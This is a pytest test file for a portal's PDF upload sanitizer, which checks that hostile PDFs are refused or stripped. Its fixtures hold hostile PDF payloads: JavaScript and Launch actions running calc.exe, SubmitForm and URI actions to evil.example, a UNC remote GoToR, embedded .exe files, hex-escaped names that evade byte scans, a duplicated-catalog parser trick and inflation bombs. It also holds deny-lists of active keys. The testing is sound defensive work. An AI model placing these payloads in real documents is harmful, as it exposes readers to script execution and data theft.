"""Uploaded PDFs: every trick a hostile file plays, built byte by byte here, and what is stored checked by
three parsers (qpdf through pikepdf, pypdf, and Poppler's command-line tools) that must all agree."""

from __future__ import annotations

import io
import re
import subprocess
import tempfile
from pathlib import Path

import pikepdf
import pytest
from PIL import Image, ImageChops, ImageDraw
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject
from weasyprint import HTML

from portal.domain.documents import pdfs
from portal.domain.documents.pdfs import clean_pdf
from portal.domain.documents.uploads import UploadRefused, clean_upload
from tests import docfiles
from tests.unit.test_uploads import pdf_with_object_stream

MB = 1024 * 1024
# Written here, not imported from the code under test: what a viewer could act on.
ACTIVE_KEYS = {"/OpenAction", "/AA", "/A", "/Annots", "/AcroForm", "/Names", "/Outlines", "/JS", "/JavaScript",
               "/EmbeddedFiles", "/EF", "/URI", "/XFA", "/Dests", "/RichMediaContent"}
ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/URI", "/GoTo", "/GoToR", "/GoToE", "/Rendition",
           "/Sound", "/Movie", "/Named", "/RichMediaExecute", "/Hide", "/ResetForm", "/SetOCGState"}


def escaped(snippet: bytes) -> bytes:
    """Every name of two letters or more written with a #xx escape for its second letter (/J#61vaScript)."""
    return re.sub(rb"/([A-Za-z])([A-Za-z])", lambda m: b"/%s#%02x" % (m[1], m[2][0]), snippet)


def refused(data: bytes) -> str:
    with pytest.raises(UploadRefused) as caught:
        clean_pdf(data)
    return caught.value.reason


def poppler(*command: str, data: bytes) -> str:
    """Runs a Poppler tool on `data` (in a file: they seek) and returns what it prints."""
    with tempfile.NamedTemporaryFile(suffix=".pdf") as file:
        file.write(data)
        file.flush()
        arguments = [*command, file.name, "-"] if command[0] == "pdftotext" else [*command, file.name]
        return subprocess.run(arguments, capture_output=True, check=True).stdout.decode()


def assert_nothing_active(data: bytes, pages: int) -> None:
    """qpdf, pypdf and Poppler each read the stored file: the same pages, and nothing a viewer could act on."""
    with pikepdf.open(io.BytesIO(data), attempt_recovery=False) as pdf:
        assert len(pdf.pages) == pages
        assert set(pdf.Root.keys()) <= {"/Type", "/Pages"}
        for obj in pdf.objects:
            if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                assert not ACTIVE_KEYS & set(obj.keys()), obj
                assert str(obj.get("/S")) not in ACTIONS
    reader = PdfReader(io.BytesIO(data), strict=True)
    assert len(reader.pages) == pages
    pending, seen = [reader.trailer], set()
    while pending:
        node = pending.pop()
        if isinstance(node, IndirectObject):
            if node.idnum in seen:
                continue
            seen.add(node.idnum)
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            assert not ACTIVE_KEYS & set(node.keys()) and node.get("/S") not in ACTIONS
            pending.extend(node.values())
        elif isinstance(node, ArrayObject):
            pending.extend(node)
    info = poppler("pdfinfo", data=data)
    assert re.search(rf"^Pages:\s+{pages}$", info, re.M) and re.search(r"^Form:\s+none$", info, re.M)
    assert re.search(r"^JavaScript:\s+no$", info, re.M)
    assert poppler("pdfdetach", "-list", data=data).startswith("0 embedded files")


def pages_as_images(data: bytes, tmp_path: Path, name: str) -> list[Image.Image]:
    (tmp_path / f"{name}.pdf").write_bytes(data)
    subprocess.run(["pdftoppm", "-r", "40", "-gray", "-png", str(tmp_path / f"{name}.pdf"), str(tmp_path / name)],
                   check=True)
    return [Image.open(path).convert("L") for path in sorted(tmp_path.glob(f"{name}*.png"))]


def assert_renders_the_same(original: bytes, stored: bytes, tmp_path: Path) -> None:
    before, after = pages_as_images(original, tmp_path, "before"), pages_as_images(stored, tmp_path, "after")
    assert len(before) == len(after) > 0
    for old, new in zip(before, after, strict=True):
        assert old.size == new.size and ImageChops.difference(old, new).getbbox() is None


# The attack from the report: the table's offsets are two bytes off, so a parser must rebuild it; pypdf's
# rebuild keeps the first, harmless catalog, MuPDF's and Poppler's keep the second, with a script.
EVIL_CATALOG = (1, b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>")
DUPLICATED = docfiles.pdf_from_objects([*docfiles.page_objects(), EVIL_CATALOG], shift=2)


class TestFilesThatViewersReadDifferentlyAreRefused:
    def test_an_object_defined_twice_with_the_script_in_the_later_definition_is_refused(self):
        assert "/OpenAction" not in PdfReader(io.BytesIO(DUPLICATED)).trailer["/Root"]  # what the old check read
        assert refused(DUPLICATED) == "unclear_pdf"
        with pytest.raises(UploadRefused, match="unclear_pdf"):
            clean_upload(DUPLICATED, "lease.pdf", MB)

    def test_an_object_defined_twice_is_refused_even_when_the_table_is_right(self):
        harmless_second = (1, b"<< /Type /Catalog /Pages 2 0 R /PageMode /UseNone >>")
        assert refused(docfiles.pdf_from_objects([*docfiles.page_objects(), harmless_second])) == "unclear_pdf"

    def test_an_update_appended_after_the_last_eof_is_refused(self):
        update = docfiles.with_update(docfiles.pdf_from_objects(docfiles.page_objects()), [
            (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.example/) >> >>")],
            eof=False)
        assert refused(update) == "unclear_pdf"

    def test_bytes_after_the_last_eof_are_refused_but_padding_is_not(self, tmp_path):
        plain = docfiles.pdf_from_objects(docfiles.page_objects())
        assert refused(plain + b"1 0 obj << /Type /Catalog >> endobj") == "unclear_pdf"
        assert_renders_the_same(plain, clean_pdf(plain + b"\r\n\x00\x00\n"), tmp_path)

    def test_a_table_that_must_be_rebuilt_over_compressed_object_streams_is_refused(self):
        packed = pdf_with_object_stream(b"")
        broken = packed.replace(b"startxref\n", b"startxref\n1")  # the table is no longer where it says
        assert refused(broken) == "unclear_pdf"

    def test_a_file_cut_short_is_refused_as_damaged(self):
        assert refused(docfiles.pdf_from_objects(docfiles.page_objects())[:-40]) == "damaged"


REFUSED_CONTENT = {
    "javascript": (b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", b""),
    "launch": (b"/OpenAction << /S /Launch /F (calc.exe) >>", b""),
    "submit_form": (b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>", b""),
    "import_data": (b"/OpenAction << /S /ImportData /F (data.fdf) >>", b""),
    "goto_embedded": (b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>", b""),
    "rendition": (b"/OpenAction << /S /Rendition /OP 0 >>", b""),
    "sound": (b"/OpenAction << /S /Sound /Sound << /R 8000 >> >>", b""),
    "movie": (b"/OpenAction << /S /Movie /T (clip) >>", b""),
    "catalog_additional_action": (b"/AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>", b""),
    "page_additional_action": (b"", b"/AA << /O << /S /Launch /F (calc.exe) >> >>"),
    "annotation_action": (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
                               b"/A << /S /JavaScript /JS (x) >> >>]"),
    "annotation_additional_action": (b"", b"/Annots [<< /Type /Annot /Subtype /Square /Rect [0 0 99 99] "
                                         b"/AA << /E << /S /SubmitForm /F (https://evil.example/) >> >> >>]"),
    "rich_media_annotation": (b"", b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] >>]"),
    "three_d_annotation": (b"", b"/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 99 99] >>]"),
    "file_attachment_annotation": (b"", b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
                                       b"/FS << /Type /Filespec /F (a.exe) >> >>]"),
    "embedded_files": (b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) "
                       b"/EF << /F << /Type /EmbeddedFile /Length 0 >> >> >>] >> >>", b""),
    "javascript_name_tree": (b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>", b""),
    "xfa_form": (b"/AcroForm << /Fields [] /XFA [(template) (<xdp/>)] >>", b""),
}


class TestScriptsProgramsAndAttachmentsAreRefused:
    @pytest.mark.parametrize("write", [bytes, escaped], ids=["plain", "hex_escaped_names"])
    @pytest.mark.parametrize("kind", REFUSED_CONTENT)
    def test_whatever_the_names_look_like(self, kind, write):
        catalog, page = REFUSED_CONTENT[kind]
        data = docfiles.pdf_from_objects(docfiles.page_objects(catalog_extra=write(catalog), page_extra=write(page)))
        assert refused(data) == "active_pdf"

    @pytest.mark.parametrize("kind", ["javascript", "launch", "embedded_files", "xfa_form"])
    def test_inside_a_compressed_object_stream(self, kind):
        data = pdf_with_object_stream(escaped(REFUSED_CONTENT[kind][0]))
        assert b"Java" not in data and b"/EF" not in data  # nothing for a byte search to find
        assert refused(data) == "active_pdf"

    def test_in_an_incremental_update(self):
        base = docfiles.pdf_from_objects(docfiles.page_objects())
        update = docfiles.with_update(base, [(1, escaped(b"<< /Type /Catalog /Pages 2 0 R "
                                                       b"/OpenAction << /S /JavaScript /JS (x) >> >>"))])
        assert refused(update) == "active_pdf"


REMOVED_CONTENT = {
    "uri_open_action": (b"/OpenAction << /S /URI /URI (https://evil.example/) >>", b""),
    "remote_goto_open_action": (b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>", b""),
    "goto_open_action": (b"/OpenAction [3 0 R /Fit]", b""),
    "named_action": (b"/OpenAction << /S /Named /N /Print >>", b""),
    "catalog_additional_action": (b"/AA << /WC << /S /URI /URI (https://evil.example/) >> >>", b""),
    "page_additional_action": (b"", b"/AA << /O << /S /GoToR /F (x.pdf) /D [0 /Fit] >> >>"),
    "link_annotation": (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
                             b"/A << /S /URI /URI (https://evil.example/) >> >>]"),
    "annotation_additional_action": (b"", b"/Annots [<< /Type /Annot /Subtype /Square /Rect [0 0 99 99] "
                                         b"/AA << /E << /S /URI /URI (https://evil.example/) >> >> >>]"),
    "outline_with_action": (b"/Outlines << /Type /Outlines /First << /Title (x) /A << /S /URI /URI (https://e/) >> "
                            b">> >>", b""),
    "uri_base": (b"/URI << /Base (https://evil.example/) >>", b""),
}


class TestLinksBookmarksAndFormsAreRemoved:
    @pytest.mark.parametrize("write", [bytes, escaped], ids=["plain", "hex_escaped_names"])
    @pytest.mark.parametrize("kind", REMOVED_CONTENT)
    def test_the_stored_file_has_the_pages_and_nothing_else(self, kind, write, tmp_path):
        catalog, page = REMOVED_CONTENT[kind]
        data = docfiles.pdf_from_objects(docfiles.page_objects(catalog_extra=write(catalog), page_extra=write(page)))
        stored = clean_pdf(data)
        assert_nothing_active(stored, pages=1)
        assert_renders_the_same(docfiles.pdf_from_objects(docfiles.page_objects()), stored, tmp_path)

    def test_a_link_inside_a_compressed_object_stream(self):
        assert_nothing_active(clean_pdf(pdf_with_object_stream(b"/OpenAction << /S /URI /URI (https://e/) >>")), 1)

    def test_an_open_action_added_by_an_incremental_update_does_not_survive(self):
        base = docfiles.pdf_from_objects(docfiles.page_objects("first"))
        update = docfiles.with_update(base, [
            (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.example/) >> >>"),
            docfiles.page_objects("second")[3]])
        stored = clean_pdf(update)
        assert_nothing_active(stored, pages=1)
        assert poppler("pdftotext", data=stored).strip() == "second"  # what every viewer showed: the update

    def test_a_filled_in_form_keeps_its_answer_visible(self):
        form = pikepdf.new()
        form.add_blank_page(page_size=(612, 792))
        helvetica = form.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                                           BaseFont=pikepdf.Name.Helvetica))
        field = form.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("name"),
            V=pikepdf.String("Sok Chanthy"), Rect=[72, 600, 400, 630], F=4, DA=pikepdf.String("/Helv 14 Tf 0 g"),
            AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://e/")))))
        form.pages[0].obj.Annots = pikepdf.Array([field])
        form.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), NeedAppearances=True,
                                                DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=helvetica)))
        written = io.BytesIO()
        form.save(written)
        stored = clean_pdf(written.getvalue())
        assert_nothing_active(stored, pages=1)
        assert "Sok Chanthy" in poppler("pdftotext", data=stored)


def scanned_pages(count: int, size=(1240, 1754)) -> bytes:
    """A scan as Pillow writes it (one JPEG image per A4 page at 150 dpi), without its cross-reference table
    and startxref, as some scanners write them: readers must rebuild the table."""
    images = []
    for number in range(count):
        page = Image.new("L", size, 235)
        ImageDraw.Draw(page).rectangle((100, 100 + number * 10, 900, 400), fill=20)
        images.append(page.convert("RGB"))
    out = io.BytesIO()
    images[0].save(out, "PDF", resolution=150, save_all=True, append_images=images[1:])
    data = out.getvalue()
    start, trailer = data.rindex(b"\nxref\n") + 1, data.rindex(b"trailer")
    data = data[:start] + data[trailer:]
    return data[:data.rindex(b"startxref")] + b"%%EOF\n"


class TestInflationBombs:
    def test_an_object_stream_that_inflates_past_the_memory_budget_is_refused_in_the_child(self, monkeypatch):
        monkeypatch.setattr(pdfs, "MEMORY_BUDGET", 64 * 1024 * 1024)
        bomb = pdf_with_object_stream(b"", padding_mb=200)
        assert len(bomb) < 300_000
        assert refused(bomb) in ("damaged", "unclear_pdf")


class TestOrdinaryFilesAreAcceptedAndLookTheSame:
    def test_a_scan_without_a_cross_reference_table_is_accepted(self, tmp_path):
        scan = scanned_pages(2)
        assert b"startxref" not in scan and b"\nxref" not in scan
        stored = clean_upload(scan, "scan.pdf", 10 * MB).data
        assert_nothing_active(stored, pages=2)
        assert_renders_the_same(scan, stored, tmp_path)
        assert "A4" in poppler("pdfinfo", data=stored)

    def test_wrong_offsets_in_a_file_without_duplicates_are_rebuilt(self, tmp_path):
        shifted = docfiles.pdf_from_objects(docfiles.page_objects("shifted"), shift=3)
        stored = clean_pdf(shifted)
        assert_nothing_active(stored, pages=1)
        assert poppler("pdftotext", data=stored).strip() == "shifted"

    def test_a_document_from_an_office_suite_keeps_its_text_and_look(self, tmp_path):
        html = ("<h1>Lease agreement</h1><p>Between <a href='https://example.org'>the owner</a> and the tenant.</p>"
                "<p style='page-break-before: always'>Page two</p><p style='page-break-before: always'>Page three</p>")
        original = HTML(string=html).write_pdf()
        stored = clean_pdf(original)
        assert_nothing_active(stored, pages=3)
        assert poppler("pdftotext", data=stored) == poppler("pdftotext", data=original)
        assert_renders_the_same(original, stored, tmp_path)

    def test_a_file_saved_with_an_incremental_update_is_accepted(self, tmp_path):
        base = docfiles.pdf_from_objects(docfiles.page_objects("draft"))
        signed = docfiles.with_update(base, [docfiles.page_objects("final")[3]])  # the page's new content
        assert poppler("pdftotext", data=clean_pdf(signed)).strip() == "final"

    def test_the_same_file_gives_the_same_stored_bytes(self):
        scan = scanned_pages(1)
        assert clean_pdf(scan) == clean_pdf(scan)  # the store is content-addressed: a second upload is deduplicated

    def test_an_image_with_its_own_xmp_metadata_is_accepted(self):
        with pikepdf.open(io.BytesIO(scanned_pages(1))) as scan:
            image = scan.pages[0].Resources.XObject[next(iter(scan.pages[0].Resources.XObject.keys()))]
            image.Metadata = scan.make_stream(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>", Type=pikepdf.Name.Metadata,
                                              Subtype=pikepdf.Name.XML)
            written = io.BytesIO()
            scan.save(written)
        assert_nothing_active(clean_pdf(written.getvalue()), pages=1)

    def test_a_password_protected_file_is_refused(self):
        protected = io.BytesIO()
        with pikepdf.open(io.BytesIO(docfiles.pdf())) as pdf:
            pdf.save(protected, encryption=pikepdf.Encryption(owner="o", user="u"))
        assert refused(protected.getvalue()) == "encrypted_pdf"
